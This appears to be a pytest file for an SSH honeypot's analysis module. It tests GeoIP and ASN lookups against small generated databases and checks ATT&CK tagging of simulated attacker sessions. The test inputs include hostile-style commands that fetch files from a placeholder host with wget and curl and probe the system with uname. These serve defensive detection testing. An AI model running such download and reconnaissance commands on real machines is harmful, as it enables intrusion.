"""GeoIP from MaxMind-format files this test writes (mmdb-writer), cached, and the Enricher's
session.geo / session.attack events."""

from __future__ import annotations

from pathlib import Path

import pytest
from mmdb_writer import MMDBWriter
from netaddr import IPSet

from sandtrap import events as ev
from sandtrap.analysis.enrich import Enricher, GeoInfo, GeoIP
from sandtrap.config import AnalysisConfig
from sandtrap.events import Peer


def write_dbs(folder: Path) -> tuple[Path, Path]:
    country = MMDBWriter(ip_version=6, database_type="GeoLite2-Country", ipv4_compatible=True)
    country.insert_network(
        IPSet(["198.51.100.0/24"]), {"country": {"iso_code": "NL", "names": {"en": "Netherlands"}}}
    )
    country.insert_network(
        IPSet(["2001:db8::/32"]),
        {"registered_country": {"iso_code": "DE", "names": {"en": "Germany"}}},
    )
    country.insert_network(
        IPSet(["127.0.0.0/8"]), {"country": {"iso_code": "ZZ", "names": {"en": "Loopback"}}}
    )
    asn = MMDBWriter(ip_version=6, database_type="GeoLite2-ASN", ipv4_compatible=True)
    asn.insert_network(
        IPSet(["198.51.100.0/24", "127.0.0.0/8"]),
        {"autonomous_system_number": 64496, "autonomous_system_organization": "Example Hosting"},
    )
    paths = folder / "country.mmdb", folder / "asn.mmdb"
    country.to_db_file(str(paths[0]))
    asn.to_db_file(str(paths[1]))
    return paths


@pytest.fixture
def dbs(tmp_path: Path) -> tuple[Path, Path]:
    return write_dbs(tmp_path)


def test_country_and_asn_lookups_are_cached(dbs: tuple[Path, Path]) -> None:
    geo = GeoIP(*dbs, cache_size=2)
    assert geo.lookup("198.51.100.7") == GeoInfo("NL", "Netherlands", 64496, "Example Hosting")
    assert geo.lookup("2001:db8::1") == GeoInfo("DE", "Germany", None, None)
    assert geo.lookup("203.0.113.1").is_empty()
    assert geo.lookup("not an address").is_empty()
    before = geo.lookups
    assert geo.lookup("not an address").is_empty()  # cached
    assert geo.lookups == before
    geo.lookup("198.51.100.7")  # forgotten (cache of 2): looked up again
    assert geo.lookups == before + 1
    geo.close()


def test_missing_or_broken_database_is_a_warning(tmp_path: Path) -> None:
    broken = tmp_path / "broken.mmdb"
    broken.write_bytes(b"not a database")
    geo = GeoIP(broken, tmp_path / "absent.mmdb")
    assert not geo.enabled
    assert geo.lookup("198.51.100.7").is_empty()


class Sink:
    def __init__(self) -> None:
        self.events: list[ev.Event] = []

    def emit(self, event: ev.Event) -> None:
        self.events.append(event)


def test_enricher_emits_geo_and_each_technique_once(dbs: tuple[Path, Path]) -> None:
    sink = Sink()
    enricher = Enricher(AnalysisConfig(geoip_country_db=dbs[0], geoip_asn_db=dbs[1]), sink)
    peer = Peer("a1b2c3d4e5f6", "198.51.100.7", 40000, 22)
    enricher.offer(ev.SessionConnect(peer=peer, dst_ip="192.0.2.1"))
    enricher.offer(ev.AuthFailed(peer=peer, username="root", method="password", password="x"))
    enricher.offer(ev.AuthSuccess(peer=peer, username="root", method="password", password="y"))
    enricher.offer(ev.SessionCommand(peer=peer, channel=0, input="wget http://x/a; uname -a"))
    enricher.offer(ev.SessionCommand(peer=peer, channel=0, input="curl http://x/b"))
    (geo,) = [e for e in sink.events if isinstance(e, ev.SessionGeo)]
    assert (geo.country, geo.asn, geo.as_org) == ("NL", 64496, "Example Hosting")
    tags = [(e.technique, e.source) for e in sink.events if isinstance(e, ev.SessionAttack)]
    assert tags == [
        ("T1110.001", "auth.success"),
        ("T1105", "session.command"),
        ("T1082", "session.command"),
    ]


def test_enricher_without_databases_emits_no_geo() -> None:
    sink = Sink()
    enricher = Enricher(AnalysisConfig(attack_tags=False), sink)
    peer = Peer("a1b2c3d4e5f6", "198.51.100.7", 40000, 22)
    enricher.offer(ev.SessionConnect(peer=peer, dst_ip="192.0.2.1"))
    enricher.offer(ev.SessionCommand(peer=peer, channel=0, input="wget http://x/a"))
    assert sink.events == []
